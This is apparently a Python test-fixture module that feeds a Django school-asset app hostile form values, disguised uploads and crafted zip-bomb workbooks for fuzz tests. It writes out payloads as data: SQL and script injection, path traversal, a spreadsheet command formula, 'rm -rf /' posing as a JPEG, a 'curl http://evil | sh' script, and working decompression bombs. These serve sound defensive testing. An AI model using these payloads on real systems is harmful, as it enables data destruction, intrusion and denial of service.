"""Hostile input for the bad-input tests: named values per kind of field, hypothesis strategies that
mix them with random text, and files that lie about what they are."""

from __future__ import annotations

import io
import zipfile

from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import strategies as st

# --- named values ---------------------------------------------------------------------------------

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SCRIPT = "<script>alert('xss')</script>"
HOSTILE_TEXT = {
    "empty": "",
    "blank": "   \t  ",
    "huge": "长" * 20_000,
    "huge_ascii": "A" * 100_000,
    "full_width_digits": "１２３４５６",
    "emoji": "😀👨‍👩‍👧‍👦🏫",
    "control": "a\x01b\x07c\x1bd\x7f",
    "nul": "nul\x00byte",
    "newlines": "line1\r\nline2\rline3\u2028line4",
    "rtl_override": "\u202eevil.exe\u202c",
    "zero_width": "\u200b\u200c\u200d\ufeff",
    "lone_surrogate_escape": "\\ud800",
    "sql": "'; DROP TABLE org_school; --",
    "sql_union": "1 OR 1=1 UNION SELECT password FROM org_user",
    "script": SCRIPT,
    "attr_break": "\"><img src=x onerror=alert(1)>",
    "template": "{{ settings.SECRET_KEY }}{% debug %}",
    "formula": "=cmd|' /C calc'!A0",
    "formula_plus": "+HYPERLINK(\"http://evil\",\"x\")",
    "format": "%s%s%s%(x)s{0}{}",
    "path": "../../../../etc/passwd",
    "url": "javascript:alert(1)",
}
HOSTILE_NUMBERS = {
    "empty": "",
    "full_width": "１２３",
    "negative": "-1",
    "huge": "9" * 40,
    "bigint_overflow": "99999999999999999999",
    "exponent": "1e309",
    "nan": "NaN",
    "inf": "Infinity",
    "neg_zero": "-0",
    "decimal_comma": "1,5",
    "many_decimals": "0.000000000000000000001",
    "hex": "0x10",
    "sql": "1; DROP TABLE org_school",
    "emoji": "😀",
}
HOSTILE_DATES = {
    "empty": "",
    "far_past": "0001-01-01",
    "far_future": "9999-12-31",
    "year_10000": "10000-01-01",
    "feb_30": "2024-02-30",
    "negative_year": "-0001-01-01",
    "full_width": "２０２６-０９-０１",
    "garbage": "yesterday",
    "huge": "2026-" + "1" * 500,
}
HOSTILE_TIMES = {"empty": "", "25h": "25:00", "garbage": "noon", "huge": "1" * 300, "negative": "-01:00"}
HOSTILE_CHOICES = {
    "empty": "",
    "negative": "-1",
    "bigint_overflow": "99999999999999999999",
    "sql": "1 OR 1=1",
    "quote": "'",
    "emoji": "😀",
    "nul": "1\x00",
    "huge": "9" * 1000,
}
NAMES = sorted(set(HOSTILE_TEXT) | set(HOSTILE_NUMBERS) | set(HOSTILE_DATES))


def named_value(field: forms.Field, name: str):
    """The value called `name` for this kind of field (a close substitute where the kind has none)."""
    table = values_for(field)
    return table.get(name, HOSTILE_TEXT.get(name, ""))


def values_for(field: forms.Field) -> dict:
    if isinstance(field, (forms.ModelChoiceField, forms.ChoiceField, forms.MultipleChoiceField)):
        return HOSTILE_CHOICES
    if isinstance(field, (forms.IntegerField, forms.DecimalField, forms.FloatField)):
        return HOSTILE_NUMBERS
    if isinstance(field, (forms.DateField, forms.DateTimeField)):
        return HOSTILE_DATES
    if isinstance(field, forms.TimeField):
        return HOSTILE_TIMES
    return HOSTILE_TEXT


# --- strategies -----------------------------------------------------------------------------------

# random text from everywhere: controls, full-width forms, emoji, CJK, combining marks (no lone surrogates:
# a browser cannot send them in a form)
any_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=300)
full_width = st.text(st.characters(min_codepoint=0xFF01, max_codepoint=0xFF5E), min_size=1, max_size=20)


def field_strategy(field: forms.Field):
    """A hostile value for one form field, by its kind."""
    named = st.sampled_from(sorted(values_for(field).values()))
    if isinstance(field, (forms.IntegerField, forms.DecimalField, forms.FloatField)):
        return st.one_of(named, st.integers(-(10**30), 10**30).map(str),
                         st.decimals(allow_nan=True, allow_infinity=True).map(str), full_width, any_text)
    if isinstance(field, (forms.DateField, forms.DateTimeField)):
        return st.one_of(named, st.dates().map(lambda d: d.isoformat()),
                         st.datetimes().map(lambda d: d.isoformat(sep=" ")), any_text)
    if isinstance(field, (forms.ModelMultipleChoiceField, forms.MultipleChoiceField)):
        return st.lists(st.one_of(named, st.integers(-(10**20), 10**20).map(str)), max_size=4)
    if isinstance(field, (forms.ModelChoiceField, forms.ChoiceField)):
        return st.one_of(named, st.integers(-(10**20), 10**20).map(str), any_text)
    if isinstance(field, forms.BooleanField):
        return st.sampled_from(["", "on", "true", "false", "0", "1", "😀", "\x00"])
    return st.one_of(named, any_text, full_width)


def form_data(form_class_fields: dict):
    """A strategy of whole POST dicts: every field hostile (files are left to the file tests)."""
    return st.fixed_dictionaries({
        name: field_strategy(field) for name, field in form_class_fields.items()
        if not isinstance(field, forms.FileField)
    })


# --- files that lie -------------------------------------------------------------------------------

TINY_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d4944415478da63f8cfc0f01f0005000201a5f1a4ba0000000049454e44ae426082"
)


def hostile_files() -> dict[str, tuple[str, bytes, str]]:
    """name -> (file name, bytes, claimed content type); none is a real image or PDF."""
    return {
        "script_as_jpg": ("photo.jpg", b"#!/bin/sh\nrm -rf / --no-preserve-root\n", "image/jpeg"),
        "html_as_png": ("photo.png", b"<html><body><script>alert(document.cookie)</script></body></html>", "image/png"),
        "svg_with_script": ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
                            "image/svg+xml"),
        "svg_as_png": ("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
                       "image/png"),
        "pdf_wrong_magic": ("report.pdf", b"%PDX-1.4\n1 0 obj<<>>endobj\n%%EOF\n", "application/pdf"),
        "pdf_truncated": ("report.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\n", "application/pdf"),
        "jpeg_magic_then_html": ("photo.jpg", b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>", "image/jpeg"),
        "png_magic_then_script": ("photo.png", TINY_PNG[:16] + b"<script>alert(1)</script>", "image/png"),
        "exe_as_pdf": ("report.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "application/pdf"),
        "empty": ("empty.jpg", b"", "image/jpeg"),
        "zip_as_jpg": ("photo.jpg", _zip_bytes({"a.txt": b"hello"}), "image/jpeg"),
    }


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def _zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx_bomb(expanded_mb: int = 400, *, claimed_size: int | None = None) -> bytes:
    """A real workbook whose first worksheet is `expanded_mb` MB of empty rows (a few hundred KB on disk).
    With `claimed_size`, the zip's central directory lies that the worksheet is that small."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["学校代码", "学校名称"]])))
    buffer = io.BytesIO()
    head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData>')
    tail = b"</sheetData></worksheet>"
    chunk = b"<row/>" * (1024 * 1024 // 6)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with archive.open(info.filename, "w", force_zip64=True) as member:
                    member.write(head)
                    for _ in range(expanded_mb):
                        member.write(chunk)
                    member.write(tail)
            else:
                archive.writestr(info.filename, source.read(info.filename))
    data = bytearray(buffer.getvalue())
    if claimed_size is not None:
        name = b"xl/worksheets/sheet1.xml"
        index = 0
        while (index := data.find(b"PK\x01\x02", index)) != -1:  # central directory entries
            name_length = int.from_bytes(data[index + 28:index + 30], "little")
            if data[index + 46:index + 46 + name_length] == name:
                data[index + 24:index + 28] = claimed_size.to_bytes(4, "little")
            index += 4
    return bytes(data)


def zip_bomb() -> bytes:
    return xlsx_bomb(400)


def lying_zip_bomb() -> bytes:
    return xlsx_bomb(300, claimed_size=1024)


def rows_bomb_under_size_limit() -> bytes:
    """60 MB of empty rows: under the uncompressed-size limit, yet millions of rows for openpyxl to walk."""
    return xlsx_bomb(60)


def _sheet_rewritten(headers: list[str], sheet_data_end: bytes) -> bytes:
    """A real workbook with `headers` whose sheet's `</sheetData>` is replaced by `sheet_data_end`."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([headers])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", sheet_data_end)
            archive.writestr(info.filename, data)
    return buffer.getvalue()


def row_gap_workbook() -> bytes:
    """A small workbook whose one data row is numbered 1,048,576: read naively, a million empty rows."""
    return _sheet_rewritten(["学校代码", "学校名称"], b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>1'
                                                      b"</t></is></c></row></sheetData>")


def many_members_zip(count: int = 30_000) -> bytes:
    """A workbook padded with tens of thousands of tiny members (each cheap, the lot not)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["学校代码", "学校名称"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info.filename))
        for index in range(count):
            archive.writestr(f"xl/m{index}.xml", b"")
    return buffer.getvalue()


def xlsx_bytes(rows: list[list]) -> bytes:
    """A real workbook whose first sheet holds `rows` (cells as given, text never a formula)."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append([_illegal_free(v) for v in row])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _illegal_free(value):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def hostile_workbooks() -> dict[str, bytes]:
    """Files named .xlsx that are not (usable) workbooks."""
    return {
        "script": b"#!/bin/sh\ncurl http://evil | sh\n",
        "html": b"<html><body><script>alert(1)</script><table><tr><td>1</td></tr></table></body></html>",
        "csv_renamed": "学校代码,学校名称\n=cmd|' /C calc'!A0,甲\n".encode("utf-8"),
        "empty": b"",
        "zip_not_xlsx": _zip_bytes({"readme.txt": b"not a workbook"}),
        "truncated_xlsx": xlsx_bytes([["a", "b"], ["1", "2"]])[:300],
        "pdf": b"%PDF-1.4\n%%EOF\n",
        "png": TINY_PNG,
        "malformed_sheet": malformed_sheet_workbook(),
    }


def malformed_sheet_workbook() -> bytes:
    """A workbook that opens (its sheet declares its size) but whose rows break off into broken XML."""
    return _sheet_rewritten(["资产编号", "原值", "学校代码", "学校名称"],
                            b'<row r="2"><c r="A2" t="inlineStr"><is><t>ZC1</t></is></c><row r="3"><c <<<&&& broken')
